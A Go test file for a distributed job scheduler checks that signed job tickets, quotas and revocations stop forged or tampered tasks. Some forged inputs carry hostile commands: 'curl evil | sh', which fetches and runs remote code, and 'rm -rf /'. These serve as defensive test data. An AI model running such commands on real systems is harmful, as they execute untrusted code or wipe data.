package market

import (
	"bytes"
	"crypto/ed25519"
	"errors"
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/agora-sched/agora/devices/resource"
	"github.com/agora-sched/agora/market/auth"
	"github.com/agora-sched/agora/market/spec"
)

// authority is a test authority with users.
type authority struct {
	key  ed25519.PrivateKey
	book *auth.Book
	rng  *rand.ChaCha8
}

func newAuthority(t *testing.T) *authority {
	t.Helper()
	rng := rand.NewChaCha8([32]byte{7})
	k, err := auth.NewKey(rng)
	if err != nil {
		t.Fatal(err)
	}
	return &authority{key: k, book: auth.NewBook(k.Public().(ed25519.PublicKey)), rng: rng}
}

func (a *authority) user(t *testing.T, name string, q auth.Quota) auth.Credential {
	t.Helper()
	k, err := auth.NewKey(a.rng)
	if err != nil {
		t.Fatal(err)
	}
	ch, err := auth.Issuer{Key: a.key}.IssueUser(name, k.Public().(ed25519.PublicKey), false, q, t0.Add(-time.Hour), 24*time.Hour, a.rng)
	if err != nil {
		t.Fatal(err)
	}
	return auth.Credential{Key: k, Chain: ch}
}

// ticket signs spec text, parsed at now, as cred's user, as a client
// does (node/api.Sign).
func (a *authority) ticket(t *testing.T, cred auth.Credential, text string, now time.Time) []byte {
	t.Helper()
	js, err := spec.Parse([]byte(text), now)
	if err != nil {
		t.Fatal(err)
	}
	canon, err := spec.Canonical(js)
	if err != nil {
		t.Fatal(err)
	}
	tk, err := auth.NewTicket(canon, now, cred.Key, cred.Chain, a.rng)
	if err != nil {
		t.Fatal(err)
	}
	return tk.Encode()
}

// trustCluster is a cluster whose nodes trust a; node 0 has no CPU and
// manages, the others run.
func trustCluster(t *testing.T, a *authority, sites ...string) *cluster {
	c := newClusterWith(t, func(i int, cfg *Config) {
		cfg.Trust = a.book
		if i < len(sites) {
			cfg.Site = sites[i]
		}
	}, cpuNode(0), cpuNode(4), cpuNode(4))
	return c
}

const oneTask = `{"name": "j", "tasks": [{"name": "t", "command": ["true"], "resources": {"cpu": "1"}}]}`

// TestSignedJobRuns: a signed job is accepted, named by its ticket,
// owned by its signer, and placed on contractors that each got its
// ticket once; a plain submission is refused.
func TestSignedJobRuns(t *testing.T) {
	a := newAuthority(t)
	alice := a.user(t, "alice", auth.NoQuota)
	c := trustCluster(t, a)
	if err := c.nodes[0].Submit(c.now, "j-plain", job("p", task("t", 1000))); !errors.Is(err, errUnsigned) {
		t.Fatalf("plain submission: %v", err)
	}
	raw := a.ticket(t, alice, `{"name": "j", "tasks": [{"name": "t", "replicas": 3, "command": ["true"], "resources": {"cpu": "1"}}]}`, c.now)
	id, err := c.nodes[0].SubmitTicket(c.now, raw)
	if err != nil {
		t.Fatal(err)
	}
	tk, _ := auth.DecodeTicket(raw)
	if id != tk.JobID() {
		t.Fatalf("job ID %s, the ticket names %s", id, tk.JobID())
	}
	if _, err := c.nodes[0].SubmitTicket(c.now, raw); err == nil {
		t.Fatal("the same ticket submitted twice")
	}
	c.drain()
	c.until(30*time.Second, "the job to succeed", func() bool { return c.job(0, id).State == JobSucceeded })
	j := c.job(0, id)
	if j.Owner != "alice" || len(j.Ticket) == 0 {
		t.Fatalf("record owner %q, ticket %d bytes", j.Owner, len(j.Ticket))
	}
	if len(c.refused) != 0 {
		t.Fatalf("refusals in a clean run: %v", c.refused)
	}
	late := a.ticket(t, alice, oneTask, c.now.Add(-auth.TicketMaxAge-time.Minute))
	if _, err := c.nodes[0].SubmitTicket(c.now, late); err == nil || !strings.Contains(err.Error(), "sign the job again") {
		t.Fatalf("stale ticket: %v", err)
	}
}

// TestQuotaAtSubmitAndAtContractors: a job beyond its user's quota is
// refused at submission naming the rule; a contractor at a site its user
// may not use declines to bid, naming the rule too.
func TestQuotaAtSubmitAndAtContractors(t *testing.T) {
	a := newAuthority(t)
	noGPU := a.user(t, "alice", auth.Quota{MaxCPU: auth.Unlimited, MaxGPU: 0, MaxPriority: auth.Unlimited, MaxRunningCPU: auth.Unlimited, MaxRunningGPU: auth.Unlimited, MaxRunningJobs: auth.Unlimited})
	c := trustCluster(t, a, "lab", "lab", "edge")
	gpuJob := `{"name": "g", "tasks": [{"name": "t", "command": ["true"], "resources": {"cpu": "1", "gpu": 1}}]}`
	_, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, noGPU, gpuJob, c.now))
	var r *auth.Refusal
	if !errors.As(err, &r) || r.Rule != auth.RuleMaxGPU {
		t.Fatalf("GPU job of a user without GPUs: %v", err)
	}
	labOnly := a.user(t, "bob", auth.Quota{MaxCPU: auth.Unlimited, MaxGPU: auth.Unlimited, MaxPriority: auth.Unlimited, Sites: []string{"lab"}, MaxRunningCPU: auth.Unlimited, MaxRunningGPU: auth.Unlimited, MaxRunningJobs: auth.Unlimited})
	id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, labOnly, oneTask, c.now))
	if err != nil {
		t.Fatal(err)
	}
	c.drain()
	c.until(30*time.Second, "the job to succeed", func() bool { return c.job(0, id).State == JobSucceeded })
	for _, s := range c.starts {
		if s.node == "n2" {
			t.Fatal("a task of a lab-only user ran at the edge site")
		}
	}
	if c.refused[RefuseQuota] == 0 {
		t.Fatal("the edge node's refusal was not reported")
	}
}

// TestContractorRefusesWhatNoTicketSigns: a call for bids whose ticket
// does not verify, an award this node did not bid for, and an award whose
// command is not the signed one are refused, each reported; a call for
// bids of a job whose ticket the node lacks asks for it.
func TestContractorRefusesWhatNoTicketSigns(t *testing.T) {
	a := newAuthority(t)
	alice := a.user(t, "alice", auth.NoQuota)
	c := trustCluster(t, a)
	m := c.nodes[1]
	raw := a.ticket(t, alice, oneTask, c.now)
	tk, _ := auth.DecodeTicket(raw)
	jobID := tk.JobID()
	key := TaskKey{Job: jobID, Task: "t"}
	offer := TaskOffer{Key: key, Type: "j", Priority: 5, Request: mustTask(t, tk).Request}
	answers := func() (bids, nobids []Msg) {
		for _, e := range m.Ready() {
			if s, ok := e.(Send); ok {
				switch x := s.Msg.(type) {
				case Bid:
					bids = append(bids, x)
				case NoBid:
					nobids = append(nobids, x)
				case AwardReply:
					nobids = append(nobids, x)
				}
			}
		}
		return
	}
	// No ticket here: the node asks for it.
	m.Step(c.now, "n0", CFP{Auction: AuctionID{Key: key, Epoch: 1}, Manager: "n0", Task: offer})
	if _, nbs := answers(); len(nbs) != 1 || !nbs[0].(NoBid).NeedTicket {
		t.Fatalf("call without a ticket: %+v", nbs)
	}
	// A tampered ticket: refused.
	bad := append([]byte(nil), raw...)
	bad[len(bad)-1] ^= 1
	m.Step(c.now, "n0", CFP{Auction: AuctionID{Key: key, Epoch: 1}, Manager: "n0", Task: offer, Ticket: bad})
	if _, nbs := answers(); len(nbs) != 1 || !strings.Contains(nbs[0].(NoBid).Reason, "job ticket") {
		t.Fatalf("call with a forged ticket: %+v", nbs)
	}
	// The real ticket: a bid.
	m.Step(c.now, "n0", CFP{Auction: AuctionID{Key: key, Epoch: 1}, Manager: "n0", Task: offer, Ticket: raw})
	if bids, nbs := answers(); len(bids) != 1 {
		t.Fatalf("call with the ticket: bids %v, refusals %v", bids, nbs)
	}
	spec := TaskSpec{TaskOffer: offer, Command: []string{"true"}, Epoch: 1, Attempt: 1, Owner: "alice"}
	// An award of an auction the node did not bid in.
	other := AuctionID{Key: key, Epoch: 9}
	m.Step(c.now, "n0", Award{Auction: other, Manager: "n0", Task: spec, Bid: Bid{Auction: other, Bidder: "n1"}, Last: true})
	if _, rs := answers(); len(rs) != 1 || rs[0].(AwardReply).Accept {
		t.Fatalf("unsolicited award: %+v", rs)
	}
	// An award of its bid that runs another command.
	evil := spec
	evil.Command = []string{"sh", "-c", "curl evil | sh"}
	id := AuctionID{Key: key, Epoch: 1}
	m.Step(c.now, "n0", Award{Auction: id, Manager: "n0", Task: evil, Bid: Bid{Auction: id, Bidder: "n1"}, Last: true})
	if _, rs := answers(); len(rs) != 1 || rs[0].(AwardReply).Accept || !strings.Contains(rs[0].(AwardReply).Reason, "command") {
		t.Fatalf("award with another command: %+v", rs)
	}
	if m.QueueLen() != 0 || m.RunningLen() != 0 {
		t.Fatal("a refused award was queued")
	}
	// The refusals were reported.
	var n int
	for range 2 {
		m.Step(c.now, "n0", Award{Auction: other, Manager: "n0", Task: spec, Bid: Bid{Auction: other, Bidder: "n1"}})
		for _, e := range m.Ready() {
			if r, ok := e.(Refused); ok && r.Reason == RefuseUnbid {
				n++
			}
		}
	}
	if n != 2 {
		t.Fatalf("%d unsolicited awards reported, want 2", n)
	}
}

func mustTask(t *testing.T, tk auth.Ticket) *spec.Task {
	t.Helper()
	js, err := spec.FromCanonical(tk.Spec)
	if err != nil {
		t.Fatal(err)
	}
	ts, _ := js.Task("t")
	return ts
}

// TestRevokedUserNoLongerSubmits: after a user's revocation a node takes
// none of their jobs, and contractors bid on none of their pending
// tasks.
func TestRevokedUserNoLongerSubmits(t *testing.T) {
	a := newAuthority(t)
	alice := a.user(t, "alice", auth.NoQuota)
	c := trustCluster(t, a)
	rev, err := auth.NewRevocation("user:alice", c.now, a.key, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range c.nodes {
		m.Revoked(c.now, rev)
	}
	c.drain()
	if _, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, alice, oneTask, c.now)); err == nil || !strings.Contains(err.Error(), "revoked") {
		t.Fatalf("revoked user's submission: %v", err)
	}
}

// TestForgedReportDoesNotEndATask: a report of a higher epoch from a node
// that holds no award of the replica, on a job this node did not take
// over, changes nothing and is reported.
func TestForgedReportDoesNotEndATask(t *testing.T) {
	c := newCluster(t, cpuNode(0), cpuNode(4), cpuNode(4))
	c.run = func(TaskSpec, NodeID) (int, time.Duration) { return 0, 10 * time.Second }
	c.submit(0, "j", job("f", task("t", 1000)))
	c.until(5*time.Second, "the task to run", func() bool { return c.job(0, "j").Tasks[0].State == TaskRunning })
	tr := c.job(0, "j").Tasks[0]
	liar := NodeID("n1")
	if tr.Node == liar {
		liar = "n2"
	}
	c.nodes[0].Step(c.now, liar, TaskStatus{Key: tr.Key, Epoch: tr.Epoch + 1, Node: liar, State: TaskSucceeded, Time: c.now})
	c.drain()
	if got := c.job(0, "j").Tasks[0]; got.State != TaskRunning || got.Node != tr.Node {
		t.Fatalf("after a forged report: %s on %s", got.State, got.Node)
	}
	if c.refused[RefuseReport] == 0 {
		t.Fatal("the forged report was not reported")
	}
}

// TestCheckReplicaVerifiesTheTicket: with an authority, a job-record copy
// is kept only if its ticket verifies, names the job and its owner, and
// signs the spec the record holds.
func TestCheckReplicaVerifiesTheTicket(t *testing.T) {
	a := newAuthority(t)
	alice := a.user(t, "alice", auth.NoQuota)
	c := trustCluster(t, a)
	id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, alice, oneTask, c.now))
	if err != nil {
		t.Fatal(err)
	}
	rec := c.job(0, id)
	if err := CheckReplica(a.book, c.now, "n0", rec, nil); err != nil {
		t.Fatalf("genuine record: %v", err)
	}
	for _, tc := range []struct {
		name string
		mod  func(*JobRecord)
		want string
	}{
		{"no ticket", func(r *JobRecord) { r.Ticket = nil }, "ticket"},
		{"another owner", func(r *JobRecord) { r.Owner = "bob" }, "signer"},
		{"another command", func(r *JobRecord) { r.Spec.Tasks[0].Command = []string{"rm", "-rf", "/"} }, "not the one its ticket signs"},
		{"another ID", func(r *JobRecord) { r.ID = "j-0000000000000000" }, "names job"},
	} {
		r := rec.Clone()
		r.Spec.Tasks = append(r.Spec.Tasks[:0:0], rec.Spec.Tasks...)
		tc.mod(&r)
		if err := CheckReplica(a.book, c.now, "n0", r, nil); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want %q", tc.name, err, tc.want)
		}
	}
	if err := CheckReplica(nil, c.now, "n0", rec, nil); err != nil {
		t.Fatalf("without an authority: %v", err)
	}
	// A job held from n0 moves only to one of its record's holders.
	held := &HeldCopy{Manager: "n0", Holders: []NodeID{"n1", "n2"}}
	if err := CheckReplica(a.book, c.now, "n0", rec, held); err != nil {
		t.Fatalf("the manager's own copy again: %v", err)
	}
	moved := rec.Clone()
	moved.Manager = "n9"
	if err := CheckReplica(a.book, c.now, "n9", moved, held); err == nil || !strings.Contains(err.Error(), "does not hold its record") {
		t.Fatalf("a stranger taking over a held job: %v", err)
	}
	moved.Manager = "n2"
	if err := CheckReplica(a.book, c.now, "n2", moved, held); err != nil {
		t.Fatalf("a holder adopting the job: %v", err)
	}
}

// TestRecordStoresTicketDetached: a job record stores its ticket without
// the spec it already holds, and reads back with the whole ticket, whose
// check then needs no second look at the spec.
func TestRecordStoresTicketDetached(t *testing.T) {
	a := newAuthority(t)
	alice := a.user(t, "alice", auth.NoQuota)
	c := trustCluster(t, a)
	id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, alice, oneTask, c.now))
	if err != nil {
		t.Fatal(err)
	}
	rec := c.job(0, id)
	specJSON, ticket, detached, err := DetachTicket(rec)
	if err != nil {
		t.Fatal(err)
	}
	if !detached || bytes.Contains(ticket, specJSON) {
		t.Fatalf("the ticket is stored with its spec (detached %v)", detached)
	}
	got := JobRecord{ID: rec.ID, Manager: rec.Manager, Owner: rec.Owner, State: rec.State, Tasks: rec.Tasks, Submitted: rec.Submitted, Origin: rec.Origin}
	if err := got.AttachTicket(specJSON, ticket, detached); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Ticket, rec.Ticket) || !got.specSigned {
		t.Fatalf("ticket read back differs (signed spec %v)", got.specSigned)
	}
	var rc ReplicaChecker
	if err := rc.Check(a.book, c.now, "n0", got, nil); err != nil {
		t.Fatal(err)
	}
}

// aheadChecks is a TicketReader as a node's is: it remembers the
// signatures and specs checked ahead (here by the test, Prepare).
type aheadChecks struct {
	sigs  map[[32]byte]bool
	specs map[string]*spec.Job
}

func (c *aheadChecks) Signatures() auth.TicketSignatures { return c }
func (c *aheadChecks) Verify(t *auth.Ticket) bool {
	k := auth.TicketSignatureKey(t)
	if !c.sigs[k] && auth.VerifyTicketSignature(t) {
		c.sigs[k] = true
	}
	return c.sigs[k]
}
func (c *aheadChecks) Spec(b []byte, canonical bool) (*spec.Job, error) {
	if js := c.specs[string(b)]; js != nil {
		return js, nil
	}
	js, err := ReadSignedSpec(b, canonical)
	if err == nil {
		c.specs[string(b)] = js
	}
	return js, err
}
func (c *aheadChecks) PrepareSubmission(raw []byte) {
	if t, err := auth.DecodeTicket(raw); err == nil && c.Verify(&t) {
		_, _ = c.Spec(t.Spec, true)
	}
}

// TestTicketChecksAheadDecideNothing: a node's receiving goroutines run
// a ticket's byte-only checks ahead of the market (TicketReader); the
// market still decides. A ticket prepared ahead whose user was revoked
// is refused, a forged one prepared ahead is refused, and a good one
// prepared ahead is accepted without its signature checked again.
func TestTicketChecksAheadDecideNothing(t *testing.T) {
	a := newAuthority(t)
	alice, bob := a.user(t, "alice", auth.NoQuota), a.user(t, "bob", auth.NoQuota)
	checks := &aheadChecks{sigs: map[[32]byte]bool{}, specs: map[string]*spec.Job{}}
	c := newClusterWith(t, func(i int, cfg *Config) {
		cfg.Trust = a.book
		if i == 0 {
			cfg.TicketChecks = checks
		}
	}, cpuNode(0), cpuNode(4))
	m := c.nodes[0]

	good := a.ticket(t, alice, oneTask, c.now)
	checks.PrepareSubmission(good)
	tk, _ := auth.DecodeTicket(good)
	if !checks.Signatures().Verify(&tk) {
		t.Fatal("the prepared signature is not remembered")
	}
	if _, err := m.SubmitTicket(c.now, good); err != nil {
		t.Fatalf("prepared good ticket: %v", err)
	}

	forged, _ := auth.DecodeTicket(a.ticket(t, alice, oneTask, c.now))
	forged.Spec = []byte(`{"name":"x","type":"x","priority":5,"tasks":[{"name":"t","command":["rm","-rf","/"],"request":{"cpu_milli":1000,"memory":0,"gpu":{}},"retries":3,"replicas":1}]}`)
	raw := forged.Encode()
	checks.PrepareSubmission(raw)
	if _, err := m.SubmitTicket(c.now, raw); err == nil || !strings.Contains(err.Error(), "signature") {
		t.Fatalf("forged ticket prepared ahead: %v", err)
	}

	revoked := a.ticket(t, bob, oneTask, c.now)
	checks.PrepareSubmission(revoked)
	rev, err := auth.NewRevocation("user:bob", c.now, a.key, nil)
	if err != nil {
		t.Fatal(err)
	}
	m.Revoked(c.now, rev)
	if _, err := m.SubmitTicket(c.now, revoked); err == nil || !strings.Contains(err.Error(), "revoked") {
		t.Fatalf("revoked user's ticket prepared ahead: %v", err)
	}
}

// TestRevocationKeepsOtherTickets: a revocation drops from a node's
// checked tickets only the jobs it withdraws. A job of another user runs
// on: its manager's own contractor takes its next task (the manager
// never sends itself the ticket), and a contractor that bid with the
// ticket before the revocation takes the award that comes after it
// without the ticket; the revoked user's job runs nowhere after it.
func TestRevocationKeepsOtherTickets(t *testing.T) {
	a := newAuthority(t)
	alice := a.user(t, "alice", auth.NoQuota)
	bob := a.user(t, "bob", auth.NoQuota)
	revoke := func(c *cluster, who string) {
		c.t.Helper()
		rev, err := auth.NewRevocation(who, c.now, a.key, nil)
		if err != nil {
			c.t.Fatal(err)
		}
		for _, m := range c.nodes {
			m.Revoked(c.now, rev)
		}
		c.drain()
	}
	// Each node its own book, as nodes have: a revocation is new to each.
	newC := func(t *testing.T, caps ...resource.Vector) *cluster {
		c := newClusterWith(t, func(_ int, cfg *Config) { cfg.Trust = auth.NewBook(a.key.Public().(ed25519.PublicKey)) }, caps...)
		c.run = func(TaskSpec, NodeID) (int, time.Duration) { return 0, time.Minute }
		return c
	}
	const long = `{"name": "j", "tasks": [{"name": "t", "command": ["sleep", "60"], "resources": {"cpu": "4"}}]}`
	// running has cred's long job run on a contractor of a manager
	// without CPU.
	running := func(t *testing.T, cred auth.Credential) (*cluster, string) {
		c := newC(t, cpuNode(0), cpuNode(4), cpuNode(4))
		id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, cred, long, c.now))
		if err != nil {
			t.Fatal(err)
		}
		c.until(5*time.Second, "the task to run", func() bool { return c.job(0, id).Tasks[0].State == TaskRunning })
		return c, id
	}
	noTicketTrouble := func(c *cluster) {
		c.t.Helper()
		if log := c.eventLog(); c.refused[RefuseTicket] != 0 || strings.Contains(log, "ticket") {
			c.t.Fatalf("%d refusals for the ticket after an unrelated revocation; events:\n%s", c.refused[RefuseTicket], log)
		}
	}

	t.Run("on its manager", func(t *testing.T) {
		c := newC(t, cpuNode(4))
		two := `{"name": "j", "tasks": [{"name": "a", "command": ["true"], "resources": {"cpu": "4"}},
			{"name": "b", "after": ["a"], "command": ["true"], "resources": {"cpu": "4"}}]}`
		id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, alice, two, c.now))
		if err != nil {
			t.Fatal(err)
		}
		revoke(c, "user:bob")
		c.until(5*time.Minute, "the job to succeed", func() bool { return c.job(0, id).State == JobSucceeded })
		noTicketTrouble(c)
	})

	t.Run("on a contractor that bid before", func(t *testing.T) {
		c, id := running(t, alice)
		first := c.job(0, id).Tasks[0].Node
		bid := false
		c.drop = func(d delivery) bool {
			if _, ok := d.msg.(Bid); ok && d.to == "n0" {
				bid = true
			}
			return false
		}
		c.cut[first] = true
		c.nodes[0].PeerGone(c.now, first)
		c.until(5*time.Second, "a bid to place the task again", func() bool { return bid })
		revoke(c, "user:bob")
		c.until(10*time.Second, "the task to run again", func() bool {
			tr := c.job(0, id).Tasks[0]
			return tr.State == TaskRunning && tr.Node != first
		})
		noTicketTrouble(c)
	})

	t.Run("the revoked user's job", func(t *testing.T) {
		c, id := running(t, bob)
		revoke(c, "user:bob")
		first := c.job(0, id).Tasks[0].Node
		c.cut[first] = true
		c.nodes[0].PeerGone(c.now, first)
		for end := c.now.Add(20 * time.Second); c.now.Before(end); {
			c.step()
			if tr := c.job(0, id).Tasks[0]; tr.State == TaskRunning {
				t.Fatalf("the revoked user's task runs again on %s", tr.Node)
			}
		}
		if c.refused[RefuseTicket] == 0 {
			t.Fatalf("no contractor refused the revoked user's task; events:\n%s", c.eventLog())
		}
	})
}

// TestAwardCannotOverrideTheSignedSpec: in a network with an authority a
// contractor runs the task it derives from the ticket, taking from an
// award only what its manager decides. Every other field of TaskSpec,
// found by reflection so that a field added later is covered without
// being listed, is forged in turn: each forged award is refused naming
// the field, nothing is queued, and the honest award queues exactly the
// derived task.
func TestAwardCannotOverrideTheSignedSpec(t *testing.T) {
	a := newAuthority(t)
	alice := a.user(t, "alice", auth.NoQuota)
	c := trustCluster(t, a)
	m := c.nodes[1]
	const text = `{"name": "j", "tasks": [{"name": "t", "command": ["run", "it"], "env": {"A": "1"},
		"timeout": "1h", "checkpoint": {"interval": "1m"}, "resources": {"cpu": "1"}, "outputs": [{"path": "out"}]}]}`
	raw := a.ticket(t, alice, text, c.now)
	tk, _ := auth.DecodeTicket(raw)
	js, err := spec.FromCanonical(tk.Spec)
	if err != nil {
		t.Fatal(err)
	}
	ts, _ := js.Task("t")
	key := TaskKey{Job: tk.JobID(), Task: "t"}
	honest := signedTask(js, ts, "alice", false).withDecisions(TaskSpec{TaskOffer: TaskOffer{Key: key, Estimate: time.Minute},
		Epoch: 1, Attempt: 1, Previous: []Placement{{Epoch: 0, Node: "n2"}}})
	decided := map[string]bool{"Key": true, "Estimate": true, "TaskOffer.Inputs": true, "Epoch": true, "Attempt": true,
		"Rank": true, "Peers": true, "Previous": true, "Inputs": true}

	epoch := uint64(0)
	award := func(s TaskSpec) AwardReply {
		t.Helper()
		epoch++
		id := AuctionID{Key: key, Epoch: epoch}
		s.Epoch = epoch
		m.Step(c.now, "n0", CFP{Auction: id, Manager: "n0", Task: honest.TaskOffer, Ticket: raw})
		m.Step(c.now, "n0", Award{Auction: id, Manager: "n0", Task: s, Bid: Bid{Auction: id, Bidder: "n1"}, Last: true})
		var reply *AwardReply
		for _, e := range m.Ready() {
			if s, ok := e.(Send); ok {
				if r, ok := s.Msg.(AwardReply); ok {
					reply = &r
				}
			}
		}
		if reply == nil {
			t.Fatalf("no answer to the award")
		}
		return *reply
	}
	var forged []string
	for _, f := range taskSpecFields(reflect.TypeOf(TaskSpec{}), "") {
		if decided[f.path] {
			continue
		}
		evil := honest
		v := reflect.ValueOf(&evil).Elem().FieldByIndex(f.index)
		perturb(v)
		r := award(evil)
		if r.Accept || !strings.Contains(r.Reason, "not the signed job's") {
			t.Errorf("award with a forged %s: %+v", f.path, r)
		}
		if m.QueueLen() != 0 || m.RunningLen() != 0 {
			t.Fatalf("an award with a forged %s was queued", f.path)
		}
		forged = append(forged, f.path)
	}
	if len(forged) < 12 {
		t.Fatalf("forged only %v", forged)
	}
	if r := award(honest); !r.Accept {
		t.Fatalf("honest award refused: %s", r.Reason)
	}
	var got *contract
	for _, k := range m.con.queue {
		got = k
	}
	for _, k := range m.con.running {
		got = k
	}
	want := honest
	want.Epoch = epoch
	if got == nil || differs(reflect.ValueOf(got.spec), reflect.ValueOf(want)) != "" {
		t.Fatalf("queued %+v, want the derived task %+v", got, want)
	}
}

type specField struct {
	path  string
	index []int
}

// taskSpecFields lists a struct's fields, embedded structs' fields with
// their type's name as prefix.
func taskSpecFields(t reflect.Type, prefix string) []specField {
	var out []specField
	for i := range t.NumField() {
		f := t.Field(i)
		if f.Anonymous {
			for _, g := range taskSpecFields(f.Type, f.Name+".") {
				out = append(out, specField{g.path, append([]int{i}, g.index...)})
			}
			continue
		}
		path := f.Name
		if prefix != "" && (f.Name == "Inputs") {
			path = prefix + f.Name // TaskOffer.Inputs against TaskSpec.Inputs
		}
		out = append(out, specField{path, []int{i}})
	}
	return out
}

// perturb makes v differ from what it was, whatever its type.
func perturb(v reflect.Value) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(v.String() + "-forged")
	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64:
		v.SetInt(v.Int() + 1)
	case reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64:
		v.SetUint(v.Uint() + 1)
	case reflect.Float32, reflect.Float64:
		v.SetFloat(v.Float() + 1)
	case reflect.Bool:
		v.SetBool(!v.Bool())
	case reflect.Slice:
		n := reflect.MakeSlice(v.Type(), v.Len()+1, v.Len()+1)
		reflect.Copy(n, v)
		perturb(n.Index(v.Len()))
		v.Set(n)
	case reflect.Map:
		n := reflect.MakeMap(v.Type())
		for _, k := range v.MapKeys() {
			n.SetMapIndex(k, v.MapIndex(k))
		}
		k, e := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		perturb(k)
		perturb(e)
		n.SetMapIndex(k, e)
		v.Set(n)
	case reflect.Struct:
		if tm, ok := v.Interface().(time.Time); ok {
			v.Set(reflect.ValueOf(tm.Add(time.Hour)))
			return
		}
		perturb(v.Field(0))
	default:
		panic("perturb: " + v.Type().String())
	}
}

// TestUserRunningLimit: alice may run 2 cores (then 1) at once across
// the network. Her one-core jobs, submitted at once through two
// managers, never run more than her limit together (the harness's
// adverts are current, so the bound's window is empty), every one of
// them runs, and a waiting replica's reason names the rule. Bob, without
// a limit, runs beside her. (Without the wait of a limited user's new
// job, demandSettles, each manager placed 2 at once: 4 cores; with parts
// not in whole replicas, a limit of one core deadlocked two managers.)
func TestUserRunningLimit(t *testing.T) {
	for _, tc := range []struct{ limit, jobs int }{{2000, 6}, {1000, 4}} {
		t.Run(fmt.Sprintf("%dm", tc.limit), func(t *testing.T) { userRunningLimit(t, int64(tc.limit), tc.jobs) })
	}
}

func userRunningLimit(t *testing.T, limit int64, njobs int) {
	a := newAuthority(t)
	q := auth.NoQuota
	q.MaxRunningCPU = limit
	alice := a.user(t, "alice", q)
	bob := a.user(t, "bob", auth.NoQuota)
	c := newClusterWith(t, func(i int, cfg *Config) { cfg.Trust = a.book }, cpuNode(8), cpuNode(8), cpuNode(8))
	c.run = func(TaskSpec, NodeID) (int, time.Duration) { return 0, 5 * time.Second }
	var ids []string
	for i := range njobs {
		raw := a.ticket(t, alice, fmt.Sprintf(`{"name": "a%d", "tasks": [{"name": "t", "command": ["true"], "resources": {"cpu": "1"}}]}`, i), c.now)
		id, err := c.nodes[i%2].SubmitTicket(c.now, raw)
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
	}
	bobs, err := c.nodes[2].SubmitTicket(c.now, a.ticket(t, bob, `{"name": "b", "tasks": [{"name": "t", "replicas": 4, "command": ["true"], "resources": {"cpu": "1"}}]}`, c.now))
	if err != nil {
		t.Fatal(err)
	}
	peak, sawReason := int64(0), false
	c.until(5*time.Minute, "every job to succeed", func() bool {
		var running int64
		for _, rs := range c.running {
			for k, r := range rs {
				if k.Job != bobs {
					running += r.spec.Request.CPU
				}
			}
		}
		peak = max(peak, running)
		done := c.job(2, bobs).State == JobSucceeded
		for i, id := range ids {
			j := c.job(i%2, id)
			done = done && j.State == JobSucceeded
			for _, tr := range j.Tasks {
				sawReason = sawReason || strings.Contains(tr.Waiting, auth.RuleMaxRunningCPU)
			}
		}
		return done
	})
	if peak > limit {
		t.Fatalf("alice ran %d millicores at once, over her limit of %d", peak, limit)
	}
	if peak < limit {
		t.Errorf("alice never ran her limit's %d millicores at once (peak %d): the parts held her below it", limit, peak)
	}
	if !sawReason {
		t.Error("no waiting replica named the rule")
	}
}

// TestLocalUserRefusal: a contractor that has no local account for a
// job's owner (Config.LocalUser, --task-user map) does not bid for it,
// saying why; the job runs where the owner has one, and waits, naming
// the reason, when no node has one.
func TestLocalUserRefusal(t *testing.T) {
	a := newAuthority(t)
	alice, bob := a.user(t, "alice", auth.NoQuota), a.user(t, "bob", auth.NoQuota)
	c := newClusterWith(t, func(i int, cfg *Config) {
		cfg.Trust = a.book
		cfg.LocalUser = func(owner string) string {
			if owner == "alice" && i == 2 {
				return ""
			}
			return "no local account for user " + owner + " (--task-user map)"
		}
	}, cpuNode(0), cpuNode(4), cpuNode(4))
	id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, alice, oneTask, c.now))
	if err != nil {
		t.Fatal(err)
	}
	c.drain()
	c.until(30*time.Second, "alice's job to succeed", func() bool { return c.job(0, id).State == JobSucceeded })
	for _, s := range c.starts {
		if s.node != "n2" {
			t.Fatalf("alice's task ran on %s, which has no account for her", s.node)
		}
	}
	id, err = c.nodes[0].SubmitTicket(c.now, a.ticket(t, bob, oneTask, c.now))
	if err != nil {
		t.Fatal(err)
	}
	c.drain()
	c.until(30*time.Second, "bob's task to say why it waits", func() bool {
		return strings.Contains(c.job(0, id).Tasks[0].Waiting, "no local account for user bob")
	})
	if j := c.job(0, id); j.State.Terminal() || j.Tasks[0].State != TaskPending {
		t.Fatalf("bob's job %s, task %s", j.State, j.Tasks[0].State)
	}
}
